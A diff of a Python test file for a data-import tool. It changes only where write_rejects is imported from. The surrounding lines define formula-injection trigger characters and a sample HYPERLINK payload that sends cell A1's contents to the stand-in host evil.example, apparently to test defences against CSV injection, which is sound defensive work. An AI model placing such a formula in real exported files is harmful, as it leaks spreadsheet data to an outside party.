@@ -12,8 +12,8 @@ from pathlib import Path
 import pytest
 
 from skiptrace.errors import RejectedRow
-from skiptrace.importer import write_rejects
 from skiptrace.intake import load_portfolio
+from skiptrace.pipeline.importer import write_rejects
 
 DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
 PAYLOAD = "HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")"
